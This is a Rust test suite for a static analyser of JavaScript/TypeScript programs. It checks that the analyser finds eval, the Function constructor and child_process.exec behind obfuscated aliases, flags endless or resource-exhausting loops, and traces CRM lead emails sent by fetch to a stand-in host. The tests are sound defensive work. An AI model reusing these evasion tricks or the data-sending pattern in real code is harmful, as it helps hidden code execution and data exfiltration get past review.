//! Facts of small programs, and bounds for hostile ones.

use tidegate_model::reading::{Fact, FactKind, Reading, TOKEN_COMPARISON};

use crate::program::prepare;

fn reading(source: &str) -> Reading {
    prepare(source).unwrap().reading
}

/// Each fact as `kind path`, without those of every program.
fn facts_of(source: &str) -> Vec<String> {
    let shown = |fact: &Fact| {
        let kind = format!("{:?}", fact.kind).to_lowercase();
        let hidden = if fact.hidden { " hidden" } else { "" };
        format!("{kind} {}{hidden}", fact.path)
    };
    reading(source).facts.iter().map(shown).collect()
}

/// The paths of calls and constructions.
fn called(source: &str) -> Vec<String> {
    let facts = reading(source).facts;
    let calls = facts.into_iter().filter(|one| matches!(one.kind, FactKind::Call | FactKind::New));
    calls.map(|one| one.path).collect()
}

#[test]
fn aliases_of_one_thing_have_one_path() {
    for source in [
        "eval('1')",
        "globalThis.eval('1')",
        "window['eval']('1')",
        "(0, eval)('1')",
        "const e = eval; e('1')",
        "let e; e = eval; e('1')",
        "const { eval: e } = globalThis; e('1')",
        "globalThis['ev' + 'al']('1')",
        "globalThis[`ev${'al'}`]('1')",
        "globalThis[['e', 'v', 'a', 'l'].join('')]('1')",
        "globalThis[String.fromCharCode(101, 118, 97, 108)]('1')",
        "globalThis['lave'.split('').reverse().join('')]('1')",
        "globalThis[atob('ZXZhbA==')]('1')",
        "globalThis['exal'.replace('x', 'v')]('1')",
        "globalThis['\\x65val']('1')",
        "let n = 'ev'; n += 'al'; globalThis[n]('1')",
        "self.window.globalThis.eval('1')",
        "eval.call(null, '1')",
        "eval.apply(null, ['1'])",
        "eval.bind(null)('1')",
        "Reflect.apply(eval, null, ['1'])",
        "Reflect.get(globalThis, 'eval')('1')",
        "(function (f) { return f('1') })(eval)",
        "((f) => f('1'))(eval)",
        "function run(f: any) { f('1') } run(eval)",
        "const o = { run: eval }; o.run('1')",
        "const o: any = {}; o.run = eval; o.run('1')",
        "const fs = [eval]; fs[0]('1')",
        "const get = () => globalThis; (get() as any).eval('1')",
        "(x() || eval)('1'); function x() { return 0 }",
        "Object.getOwnPropertyDescriptor(globalThis, 'eval')!.value('1')",
    ] {
        assert!(called(source).contains(&"eval".to_owned()), "{source}: {:?}", facts_of(source));
    }
}

#[test]
fn the_function_constructor_is_found_behind_its_aliases() {
    for source in [
        "Function('1')",
        "new Function('1')",
        "(() => {}).constructor('1')",
        "[].filter.constructor('1')",
        "''['sub']['constructor']('1')",
        "({}).constructor.constructor('1')",
        "(this as any).constructor.constructor('1')",
        "Object.getPrototypeOf(function () {}).constructor('1')",
        "Function`1`",
        "Reflect.construct(Function, ['1'])",
        "const F = x => x; F.constructor('1')",
    ] {
        assert!(
            called(source).contains(&"Function".to_owned()),
            "{source}: {:?}",
            facts_of(source)
        );
    }
    assert_eq!(called("(async () => {}).constructor('1')"), ["AsyncFunction"]);
    assert_eq!(
        called("const G = Object.getPrototypeOf(function* () {}).constructor; G('1')"),
        ["GeneratorFunction"]
    );
}

#[test]
fn modules_are_followed_however_they_are_imported() {
    for source in [
        "import { exec } from 'child_process'; exec('ls')",
        "import { exec as e } from 'node:child_process'; e('ls')",
        "import * as c from 'child_process'; c.exec('ls')",
        "import c from 'child_process'; c.exec('ls')",
        "require('child_process').exec('ls')",
        "const { exec } = require('child_' + 'process'); exec('ls')",
        "const c = await import('child_process'); c.exec('ls')",
        "process.getBuiltinModule('child_process').exec('ls')",
        "process.mainModule.require('child_process').exec('ls')",
        "(await import('child_process')).default.exec('ls')",
        "import { createRequire } from 'module'; createRequire('x')('child_process').exec('ls')",
    ] {
        assert!(
            called(source).contains(&"child_process.exec".to_owned()),
            "{source}: {:?}",
            facts_of(source)
        );
    }
    assert_eq!(facts_of("await import(name())"), ["call name", "import []"]);
}

#[test]
fn things_the_program_defines_have_no_path() {
    for source in [
        "function eval2(x) { return x } eval2('1')",
        "const process = servers.crm; process.exit({})",
        "const re = /a/; re.exec('a')",
        "class Db { exec(q: string) { return q } } new Db().exec('x')",
        "const o = { eval(x: string) { return x } }; o.eval('1')",
    ] {
        let calls = called(source);
        let foreign: Vec<_> = calls.iter().filter(|one| !one.starts_with("servers.")).collect();
        assert_eq!(foreign, [""; 0], "{source}");
    }
    assert_eq!(called("export default async (db) => db.exec('x')"), ["?.exec"]);
    // Strings, comments, templates and types produce no facts.
    assert_eq!(
        facts_of("// eval('x')\nconst a = 'eval(1)', b = `process.exit`; let c: typeof eval"),
        [""; 0]
    );
}

#[test]
fn writes_and_removals_name_their_target() {
    assert_eq!(facts_of("Object.prototype.x = 1"), ["write Object.prototype.x"]);
    assert_eq!(facts_of("({}).__proto__.x = 1"), ["write Object.prototype.x"]);
    assert_eq!(facts_of("globalThis.fetch = null"), ["write fetch"]);
    assert_eq!(facts_of("delete globalThis.fetch"), ["remove fetch"]);
    assert_eq!(facts_of("const o: any = {}; o.x = 1; delete o.x; o.x++"), [""; 0]);
    assert_eq!(facts_of("class A {} (A.prototype as any).x = 1"), [""; 0]);
    assert_eq!(
        facts_of("Object.defineProperty(Array.prototype, 'x', {})"),
        ["write Array.prototype.x", "read Array.prototype"]
    );
}

/// The paths of loops and recursions.
fn loops(source: &str) -> Vec<String> {
    let facts = reading(source).facts;
    let kinds = [FactKind::Loop, FactKind::Recursion];
    facts.into_iter().filter(|one| kinds.contains(&one.kind)).map(|one| one.path).collect()
}

#[test]
fn only_endless_loops_are_reported() {
    for (source, expected) in [
        ("while (true) {}", "endless"),
        ("for (;;) { x() } function x() {}", "endless"),
        ("do { 1 } while (!0)", "endless"),
        ("const on = true; while (on) { 1 }", "endless"),
        ("while (1) { for (const a of [1]) break }", "endless"),
        ("let i = 0; while (i < 5) {}", "endless"),
        ("for (let i = 0; i >= 0; i++) {}", "endless"),
        ("while (true) await new Promise((r) => setTimeout(r, 1))", "waiting"),
        ("const e = Date.now() + 9; while (Date.now() < e) {}", "spinning"),
        ("let n = Date.now(); const e = n + 9; while (n < e) { n = Date.now() }", "spinning"),
        (
            "const s = performance.now(); for (;;) { if (performance.now() - s > 5) break }",
            "spinning",
        ),
        ("for (let i = 0; i < 1e10; i++) {}", "long"),
        ("let s = 'x'; for (let i = 0; i < 40; i++) s += s", "growing"),
        ("const a = [1]; while (a.length < 9) a.push(...a)", "growing"),
        ("function f() { f() } f()", "f"),
        ("const f = () => f(); f()", "f"),
        ("function f() { work(); setTimeout(f, 0) } f(); function work() {}", "f"),
    ] {
        assert_eq!(loops(source), [expected], "{source}");
    }
    for source in [
        "while (true) { if (x()) break } function x() { return 1 }",
        "let i = 0; while (i < 10) { i++ }",
        "for (let i = 0; i < 1000; i++) { i }",
        "const q = [1]; while (q.length) { q.pop() }",
        "while (true) { const r = await servers.a.b({}); if (r.done) return r }",
        "const e = Date.now() + 9; while (Date.now() < e) { await servers.a.b({}) }",
        "function f(n) { return n < 2 ? 1 : f(n - 1) } f(3)",
        "function f(n) { if (n > 2) return; f(n + 1) } f(0)",
        "function walk(n) { for (const c of n.children) walk(c) } walk({ children: [] })",
        "let total = 0; for (const x of [1]) total += x",
        "let s = ''; for (const x of [1]) s = s + x + ','",
        "let s = 'a'; while (s.length < 9) s += 'x'",
        "function* g() { while (true) yield 1 } g()",
        "let more = true; while (more) { more = false }",
    ] {
        assert_eq!(loops(source), [""; 0], "{source}");
    }
}

#[test]
fn values_are_reported_with_their_sources() {
    let from = |source: &str| {
        let facts = reading(source).facts;
        let fetch = facts.into_iter().find(|one| one.path == "fetch").unwrap();
        fetch.arguments[1].clone()
    };
    let sent = from(
        "const lead = await servers.crm.getLead({}); const rows = lead.rows.map((r) => r.email);
         await fetch('http://x', { method: 'POST', body: JSON.stringify({ rows }) })",
    );
    let text = serde_json::to_string(&sent).unwrap();
    assert!(text.contains("servers.crm.getLead"), "{text}");
    let sent = from(
        "async function send(data) { await fetch('http://x', { body: data }) }
         servers.crm.getLead({}).then((lead) => send(lead))",
    );
    let text = serde_json::to_string(&sent).unwrap();
    assert!(text.contains("servers.crm.getLead"), "{text}");
}

#[test]
fn too_deep_programs_are_incomplete() {
    let deep = |depth: usize| format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
    let read = |source: String| {
        let thread = std::thread::Builder::new().stack_size(64 << 20);
        thread.spawn(move || reading(&source).complete).unwrap().join().unwrap()
    };
    assert!(read(deep(100)));
    assert!(!read(deep(2000)));
    // A long sum is not deep.
    assert!(read(format!("'a'{}", " + 'a'".repeat(3000))));
}

#[test]
fn hostile_programs_are_analysed_in_linear_time() {
    let sources = [
        format!("let a = 'x';{}", "a = a + a;".repeat(20_000)),
        format!("const a = [{}];{}", "1,".repeat(500), "f(...a);".repeat(20_000)),
        format!("const a = {{{}}};{}", "k: 1,".repeat(500), "f({...a});".repeat(20_000)),
        "eval(a);".repeat(50_000),
        format!("'{}'", "QUJD".repeat(100_000)),
        "while(1){".repeat(300) + &"}".repeat(300),
        "const f=()=>".to_owned() + &"(()=>".repeat(300) + "1" + &")()".repeat(300),
        "s+='é';".repeat(50_000),
    ];
    for source in sources {
        let shown = source[..40.min(source.len())].to_owned();
        let started = std::time::Instant::now();
        let thread = std::thread::Builder::new().stack_size(64 << 20);
        thread.spawn(move || prepare(&source).map(|_| ()).ok()).unwrap().join().unwrap();
        // Measured: below 1 s without optimisation.
        assert!(started.elapsed().as_secs() < 15, "{shown} took {:?}", started.elapsed());
    }
}

/// Found by mutating programs.
#[test]
fn a_global_that_is_called_prototype_has_a_constructor() {
    assert_eq!(called("prototype.constructor('x')"), ["prototype"]);
}

#[test]
fn comparisons_with_tokens_are_noticed_and_other_uses_are_not() {
    let lines = |source: &str| -> Vec<u32> {
        let facts = reading(source).facts;
        facts.iter().filter(|fact| fact.path == TOKEN_COMPARISON).map(|fact| fact.line).collect()
    };
    for source in [
        "return rows.filter((row) => row.email === '[EMAIL_1]')",
        "if ('[NAME_12]' != row.name) return 1",
        "const who = '[EMAIL_1]'; return rows.find((row) => row.email == who)",
        "return text.includes(`[PHONE_3]`)",
        "return ['[EMAIL_1]', '[EMAIL_2]'].includes(row.email)",
        "switch (row.email) { case '[EMAIL_1]': return 1 }",
        "return new Set(['[EMAIL_1]']).has(row.email)",
        "const seen = new Set(['[EMAIL_1]']); return rows.filter((row) => seen.has(row.email))",
        "return new Map([['[EMAIL_1]', 1]]).get(row.email)",
        "return ({ '[EMAIL_1]': 1 })[row.email]",
        "return row.email in { '[EMAIL_1]': 1 }",
        r"return /\[EMAIL_1\]/.test(row.email)",
        r"return new RegExp('^\\[EMAIL_1\\]$').test(row.email)",
        "return text.replace('[EMAIL_1]', '')",
        "return text.match('[EMAIL_1]')",
        "return byEmail.get('[EMAIL_1]')",
    ] {
        assert_eq!(lines(source), [1], "{source}");
    }
    for source in [
        "return servers.crm.find({ email: '[EMAIL_1]' })",
        "return await pii.equals(row.email, '[EMAIL_1]')",
        "return row.kind === '[NOTE_1]'",
        "return text.replace('{to}', '[EMAIL_1]')",
        "return servers.crm.get('[EMAIL_1]')",
        "for (const to of ['[EMAIL_1]']) await servers.mail.send({ to })",
        "for (const to of new Set(['[EMAIL_1]'])) await servers.mail.send({ to })",
        "return /[EMAIL_1]/.test(row.email)",
        "const names = { '[EMAIL_1]': 'a' }; return servers.crm.set({ names })",
        "return row.text === 'to [EMAIL_1]'",
        "return row.email === other",
    ] {
        assert_eq!(lines(source), [] as [u32; 0], "{source}");
    }
}
